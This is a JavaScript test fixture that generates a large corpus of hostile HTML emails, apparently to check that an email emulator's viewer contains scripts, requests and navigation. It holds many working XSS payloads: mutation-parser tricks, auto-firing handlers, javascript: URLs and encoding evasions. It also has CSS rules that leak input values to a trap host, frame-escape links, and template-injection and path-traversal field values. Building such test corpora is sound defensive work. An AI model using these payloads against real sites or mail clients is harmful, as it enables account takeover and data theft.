// Hostile mail. Each tries to run code (which says CANARY), to reach the trap, or to leave its frame. `t` is the trap by
// address, `n` by a name that leads to it.

/** Code that makes itself noticed in every way it can; it holds no double quote, so that it fits into attributes. */
const code = (t) =>
  `document.title='CANARY';console.log('CANARY');try{canary('CANARY')}catch(e){}try{top.CANARY=1}catch(e){}try{top.name='CANARY'}catch(e){}` +
  `try{parent.postMessage('CANARY','*')}catch(e){}try{alert('CANARY')}catch(e){}try{fetch('${t}/code',{mode:'no-cors'})}catch(e){}new Image().src='${t}/code'`;

const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

export function corpus(t, n) {
  const js = code(t);
  const big = "style=\"display:block;font-size:60px;line-height:90px;width:900px\"";
  const inBase64 = Buffer.from(`<script>${js}</script>`).toString("base64");
  const mails = {
    // Scripts in all forms.
    script: `<script>${js}</script>`,
    "script from elsewhere": `<script src="${t}/a.js"></script><script async src="${n}/b.js"></script><script type=module src="${t}/c.js"></script>`,
    "script by data": `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
    "script with odd case and nulls": `<ScRiPt\u0000\n/x>${js}</sCrIpT ><script/src=${t}/d.js></script>`,
    "script nested in itself": `<scr<script>ipt>${js}</scr</script>ipt>`,
    "import map and speculation": `<script type=importmap>{"imports":{"x":"${t}/x.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["${t}/spec"]}],"prerender":[{"urls":["${t}/pre"]}]}</script><script type=module>import "x"</script>`,
    "handlers that fire by themselves": `<img src=x onerror="${js}"><body onload="${js}"><svg onload="${js}"></svg><video><source onerror="${js}"></video><details open ontoggle="${js}">x</details><style onload="${js}"></style>`,
    "handlers that need a hand": `<div ${big} onclick="${js}" onmouseover="${js}" onmousedown="${js}" onpointerenter="${js}">touch me</div><input ${big} onfocus="${js}" autofocus><marquee onstart="${js}">m</marquee>`,
    "handlers of animation": `<style>@keyframes x{from{left:0}to{left:1px}}</style><div style="animation:x 1ms" onanimationstart="${js}" onanimationend="${js}">x</div><div ontransitionend="${js}" style="transition:all 1ms">y</div>`,
    "javascript in addresses": `<a ${big} href="javascript:${js}">click</a><a ${big} href=" java\nscript:${js}">and here</a><a ${big} href="&#106;avascript:${js}">or here</a><iframe src="javascript:${js}"></iframe><embed src="javascript:${js}"><object data="javascript:${js}"></object>`,
    "javascript in forms": `<form action="javascript:${js}"><button ${big}>go</button><input ${big} type=submit formaction="javascript:${js}"><input ${big} type=image src=x></form>`,
    // Going elsewhere.
    "meta refresh": `<meta http-equiv=refresh content="0;url=${t}/refresh"><meta http-equiv="Refresh" content="0; URL='javascript:${js}'">`,
    "meta that loosens": `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Set-Cookie" content="a=CANARY"><script>${js}</script>`,
    base: `<base href="${t}/" target=_top><a ${big} href="based">click</a><img src="based.png"><script src="based.js"></script>`,
    "links to every target": ["_top", "_parent", "_blank", "_self", "other"].map((target) => `<a ${big} target=${target} href="${t}/link-${target}" ping="${t}/ping">${target}</a>`).join(""),
    "links back into the emulator": `<a ${big} target=_top href="/_emulator/reset">reset</a><a ${big} href="/_emulator/messages">read</a><a ${big} href="#/calls">calls</a><img src="/_emulator/status"><iframe src="/_emulator/"></iframe><form action="/_emulator/reset" method=post><button ${big} autofocus>post</button></form>`,
    "one link over everything": `<a href="${n}/cover" target=_top style="position:fixed;inset:0;z-index:2147483647;display:block">.</a><map name=m><area shape=default href="${t}/area" target=_blank></map><img usemap="#m" width=900 height=900 src="data:image/png;base64,${pixel}">`,
    "link in svg and mathml": `<svg width=900 height=300><a href="${t}/svg" xlink:href="javascript:${js}" target=_top><rect width=900 height=300 /></a></svg><math><mtext xlink:href="javascript:${js}" href="${t}/math">math</mtext></math>`,
    "forms that send themselves": `<form id=f action="${t}/form" method=post target=_top><input name=a value=b autofocus ${big}><button ${big} formtarget=_blank formaction="${t}/form2">send</button></form><input form=f type=submit ${big}><isindex action="${t}/isindex"><dialog open><form method=dialog><button>x</button></form></dialog>`,
    // Things that load.
    images: `<img src="${t}/i.png"><img srcset="${t}/s.png 1x, ${n}/s2.png 2x" sizes=100vw><picture><source srcset="${t}/p.png"><img src=x></picture><img loading=eager fetchpriority=high src="${n}/eager.png"><image src="${t}/image.png"><input type=image src="${t}/input.png">`,
    "lazy images and no-referrer": `<div style="height:10px"></div><img loading=lazy src="${t}/lazy.png" referrerpolicy=unsafe-url crossorigin>`,
    backgrounds: `<body background="${t}/body.png"><table background="${t}/table.png"><tr background="${t}/tr.png"><td background="${t}/td.png">x</td></tr></table>`,
    "audio and video": `<video src="${t}/v.mp4" poster="${t}/poster.png" autoplay muted></video><audio src="${t}/a.mp3" autoplay></audio><video autoplay><source src="${t}/v2.mp4"><track default kind=captions src="${t}/t.vtt"></video>`,
    frames: `<iframe src="${t}/frame"></iframe><iframe src="data:text/html;base64,${inBase64}"></iframe><iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe><fencedframe></fencedframe><portal src="${t}/portal"></portal>`,
    frameset: `<frameset cols=50%,50% onload="${js}"><frame src="${t}/frame1"><frame src="javascript:${js}"></frameset>`,
    "object and embed": `<object data="${t}/o.swf" type="text/html"></object><object data="data:text/html;base64,${inBase64}"></object><embed src="${t}/e.svg" type="image/svg+xml"><applet code="${t}/x.class"></applet><object><param name=movie value="${t}/m.swf"></object>`,
    "frames without a sandbox": `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="data:text/html,<script>${js}</script>"></iframe><iframe name="CANARY" allow="*" srcdoc="<script>${js.replaceAll("'", "&apos;")}</script>"></iframe>`,
    "link elements": ["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest", "expect", "compression-dictionary", "alternate stylesheet"].map((rel) => `<link rel="${rel}" as=image href="${n.replace("a.", `${rel.replace(/\W/g, "")}.`)}/${encodeURIComponent(rel)}">`).join(""),
    "css that imports": `<style>@import "${t}/import.css"; @import url(${n}/import2.css) layer(x);</style><link rel=stylesheet href="data:text/css,@import url(${t}/import3.css)">`,
    "css that loads": `<style>body{background:url(${t}/bg.png);list-style:url("${t}/list.png");cursor:url(${t}/cursor.cur),auto}@font-face{font-family:x;src:url(${t}/font.woff2)}p{font-family:x;background-image:-webkit-image-set(url(${n}/set.png) 1x);border-image:url(${t}/border.png) 1;mask:url(${t}/mask.svg#m);filter:url(${t}/filter.svg#f);clip-path:url(${t}/clip.svg#c);shape-outside:url(${t}/shape.png)}p::before{content:url(${t}/before.png)}@namespace url(${t}/ns);</style><p style="background:url(&quot;${t}/inline.png&quot;);content:image-set('${t}/is.png' 1x)">font</p>`,
    "css that runs, once upon a time": `<div style="width:expression(${js});behavior:url(${t}/x.htc);-moz-binding:url(${t}/x.xml#b);background:url(javascript:${js})">x</div><style>@import 'javascript:${js}';</style>`,
    "css that spies": `<style>input[value^="a"]{background:url(${t}/spy-a)}a:visited{background:url(${t}/visited)}:focus{background:url(${t}/focus)}:hover{background:url(${t}/hover)}</style><input ${big} value=abc><a ${big} href="${t}">x</a>`,
    "css that covers the page": `<style>*{all:unset}html,body,div{position:fixed!important;inset:-5000px!important;width:99999px!important;height:99999px!important;z-index:2147483647!important;background:red!important}</style><div popover=manual style="position:fixed;inset:0">COVERED</div><dialog open style="position:fixed;inset:0">COVERED</dialog>`,
    // SVG and MathML.
    "svg scripts": `<svg><script>${js}</script><script href="${t}/svg.js"></script><script xlink:href="${t}/svg2.js"/></svg><svg><g onload="${js}"></g></svg>`,
    "svg that loads": `<svg><image href="${t}/svgi.png"/><image xlink:href="${n}/svgx.png"/><use href="${t}/use.svg#x"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"/><feImage href="${t}/fe.png"/><pattern><image href="${t}/pattern.png"/></pattern><style>@import "${t}/svg.css";</style></svg>`,
    "svg with other worlds in it": `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${js}"><iframe src="javascript:${js}"></iframe><script>${js}</script></body></foreignObject></svg>`,
    "svg that animates": `<svg width=900 height=300><a id=x><rect width=900 height=300 /></a><animate href=#x attributeName=href values="javascript:${js}" /><set href=#x attributeName=xlink:href to="javascript:${js}" /><animate attributeName=onload onbegin="${js}" begin=0s dur=1s /></svg>`,
    "svg that becomes a link": `<svg width=900 height=400 style="position:absolute;left:0;top:0"><a><rect width=900 height=400 fill=white /><set attributeName=href to="${t}/set" begin=0s /><animate attributeName=href values="${t}/animate" fill=freeze dur=1ms begin=0s /></a></svg>`,
    "svg as a picture": `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script><image href="${t}/inner.png"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${t}/inner2.png"/></foreignObject></svg>`)}">`,
    "data and blob addresses": `<a ${big} href="data:text/html;base64,${inBase64}" target=_top>data</a><a ${big} href="blob:${t}/x">blob</a><a ${big} download="CANARY.html" href="data:text/html;base64,${inBase64}">save</a><a ${big} href="filesystem:${t}/x">fs</a><a ${big} href="view-source:${t}/x">vs</a>`,
    // Parsers that disagree.
    "mutation: math, mtext, mglyph": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;"></mglyph></table></mtext></math><math><mtext><mglyph><style><img src=x onerror="${js}"></style></mglyph></mtext></math>`,
    "mutation: svg, style, title": `<svg></p><style><a id="</style><img src=1 onerror='${js.replaceAll("'", "&apos;")}'>"></svg><svg><title><style><img src=x onerror="${js}"></style></title></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}"></style></mglyph></form></mtext></math>`,
    "mutation: noscript, template, xmp": `<noscript><p title="</noscript><img src=x onerror='${js.replaceAll("'", "&apos;")}'>"></noscript><template><script>${js}</script><img src="${t}/template.png"></template><template shadowrootmode=open><img src="${t}/shadow.png" onerror="${js}"></template><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><script>${js}</script>`,
    "mutation: select, textarea, option": `<select><option><style></option></select><img src=x onerror="${js}"></style></select><textarea><p title="</textarea><img src=x onerror=alert('CANARY')>"></textarea><listing>&lt;img onerror=alert(1) src=x&gt;</listing>`,
    "unclosed things": `<div><p><b><table><a href="${t}/unclosed" ${big}>x<img src="${t}/un.png" onerror="${js}" title='never closed <script>${js}</script>`,
    "comments that are none": `<!--><script>${js}</script>--><!-- --!><img src=x onerror="${js}"><!--[if gte IE 4]><script>${js}</script><![endif]--><![CDATA[<script>${js}</script>]]><?xml-stylesheet href="${t}/xml.css"?><!doctype html [<!ENTITY x "y">]>`,
    "ends of the frame": `</iframe></body></html></iframe><script>${js}</script><img src="${t}/out.png" onerror="${js}"></template></textarea></title></style></script><script>${js}</script>`,
    "quotes that break out": `"><script>${js}</script><img src="x" onerror="${js}"'\`><svg/onload="${js}">" srcdoc="<script>alert('CANARY')</script>" onload="${js}" sandbox="allow-scripts allow-same-origin"`,
    "quotes by reference": `&quot;&gt;&lt;script&gt;${js}&lt;/script&gt; &#34;&#62;&#60;img src=x onerror=alert('CANARY')&#62; &lt;/iframe&gt; ${"&amp;".repeat(3)}lt;script&gt;`,
    "names that shadow": `<form name=document><input name=cookie></form><img name=body><form id=__proto__><input id=location name=parent></form><a id=top href="${t}/top"></a><iframe name=top></iframe><input name=CANARY id=canary>`,
    "the window's name and opener": `<iframe name="CANARY" src="about:blank"></iframe><a ${big} target="CANARY" rel=opener href="${t}/opener">open</a><a ${big} target=_blank rel=opener href="about:blank">blank</a>`,
    "byte order mark and utf-7": `\ufeff+ADw-script+AD4-${js}+ADw-/script+AD4-<meta charset=utf-7><meta http-equiv=content-type content="text/html; charset=utf-7">\ufeff<script>${js}</script>`,
    "odd characters": `<img src\u0000=x on\u0000error="${js}"><img/src="x"/onerror="${js}"><img src=x\u000conerror\u000c="${js}"><a ${big} href="\u0001javascript:${js}">x</a><a ${big} href="\u3000javascript:${js}">y</a>\u202e<\u2028script>${js}</script>`,
    "xml and processing": `<?php echo 1 ?><xml id=x><script>${js}</script></xml><html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${js}</x:script></html><xss style="animation-name:x" onanimationstart="${js}">`,
    "editable and popovers": `<div contenteditable autofocus onfocus="${js}" ${big}>write</div><button ${big} popovertarget=p command=show-modal commandfor=d>pop</button><div id=p popover onbeforetoggle="${js}">x</div><dialog id=d oncancel="${js}">y</dialog><details ontoggle="${js}"><summary ${big}>s</summary><img src="${t}/details.png"></details>`,
    "things that wait": `<input ${big} oninput="${js}" onkeydown="${js}" onblur="${js}" accesskey=j tabindex=1><select ${big} onchange="${js}"><option>a<option>b</select><textarea ${big} oncopy="${js}"></textarea><video controls oncanplay="${js}" src="${t}/wait.mp4"></video>`,
    "very deep": `${"<div>".repeat(3000)}<script>${js}</script><img src="${t}/deep.png" onerror="${js}">`,
    "very many": `${`<img src="${t}/many.png"><a href="${t}/many">x</a>`.repeat(500)}`,
    "content ids that are none": `<img src="cid:picture"><img src="cid:page" onerror="${js}"><iframe src="cid:page"></iframe><a ${big} href="cid:page">x</a><object data="cid:drawing"></object><script src="cid:page"></script>`,
  };
  const words = [`<script>${js}</script>`, `"><img src=x onerror="${js}">`, `javascript:alert('CANARY')`, `</iframe></title><svg onload=alert('CANARY')>`, "\u202egpj.exe", "{{constructor.constructor('alert(1)')()}}"];
  const attach = (name, contentType, text, contentId) => ({ name, contentType, contentInBase64: Buffer.from(text).toString("base64"), ...(contentId ? { contentId } : {}) });
  return Object.entries(mails).map(([name, html], index) => ({
    name,
    html,
    subject: `${words[index % words.length]} ${name}`.replaceAll(/[\r\n]/g, " "),
    plainText: `${words[(index + 1) % words.length]} <script>${js}</script>`,
    to: [{ address: `someone${index}@example.com`, displayName: words[(index + 2) % words.length] }],
    headers: { "x-hostile": `<img src=x onerror=alert('CANARY')>` },
    attachments: name.startsWith("content ids") ? [attach("picture.png", "image/png", Buffer.from(pixel, "base64"), "picture"), attach("page.html", "text/html", `<script>${js}</script>`, "page"), attach("drawing.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`, "drawing")] : undefined,
  }));
}

/** Hostile words for every field that takes them. */
export const fields = (t) => [
  `<script>${code(t)}</script>`, `<img src=x onerror="${code(t)}">`, `"><svg/onload=alert('CANARY')>`, `'-alert('CANARY')-'`, `</li></ul><iframe src=${t}/field>`,
  "javascript:alert('CANARY')", `<a href="${t}/a" autofocus onfocus=alert('CANARY')>x</a>`, `\u202e\u0000\ufeff${"\u0300".repeat(50)}`, "__proto__", "constructor", "%2F..%2F..%2Freset", "${alert('CANARY')}",
];
